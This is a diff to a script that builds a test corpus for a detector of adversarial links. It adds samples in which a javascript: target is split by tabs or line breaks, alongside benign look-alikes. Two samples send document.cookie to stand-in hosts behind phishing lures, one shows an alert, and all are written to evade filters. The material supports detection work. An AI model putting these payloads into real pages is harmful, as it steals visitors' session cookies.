@@ -15,8 +15,9 @@
 #   au26h  markdown links whose text shows one host and whose target is another registered domain;
 #   au26l  (added later, before its reading) `javascript:` and `data:text/html` link targets spelled with HTML
 #          character references or split by tab and newline references, which a browser and a markdown renderer
-#          decode before they read the scheme; ok26l: targets whose references decode to a page, a path or a
-#          do-nothing menu link;
+#          decode before they read the scheme, and (au26m) an anchor's target split by a raw tab or line break,
+#          which a URL's parser drops; ok26l/ok26m: targets whose references decode to a page, a path or a
+#          do-nothing menu link, anchors whose target is split over lines and leads to a page;
 #   ok26   look-alikes: docs naming those services, analytics and UTM query strings, signed CDN links, OAuth redirect
 #          URIs, localhost dev URLs, IP addresses in docs, punycode of real non-Latin sites, SSRF advisories naming
 #          the metadata service, markdown links whose text and target are the same site (www, a shortener, an
@@ -278,6 +279,16 @@ corpus.add('ok26l', [], [
     '<a href="/guides/data&#45;text&#45;html">Serving data as text/html</a>',
     '<a href="caf&eacute;-menu.html">Caf&eacute; menu</a>',
     '[Release notes](&#47;releases&#47;v2.3)',
+], source='web')
+corpus.add('au26m', ['adversarial_url'], [
+    '<a href="java\tscript:fetch(\'//collect.tld/?c=\'+document.cookie)">Verify your account</a>',
+    '<a class="btn" href="javas\ncript:alert(document.domain)">Open the invoice</a>',
+    '<a href="\n  jav\tascript:location=\'//x.tld/?\'+document.cookie\n">Claim the refund</a>',
+], source='web')
+corpus.add('ok26m', [], [
+    '<a href="/docs/\n  javascript-basics">JavaScript basics</a>',
+    '<a href="javascript:void(0)\n">Menu</a>',
+    '<a class="nav"\n   href="https://example.com/java\tscript-notes">Notes on JavaScript</a>',
 ], source='web')
 corpus.write('cases-26')
 print(len(corpus.cases), sum(1 for c in corpus.cases if c['yes']))
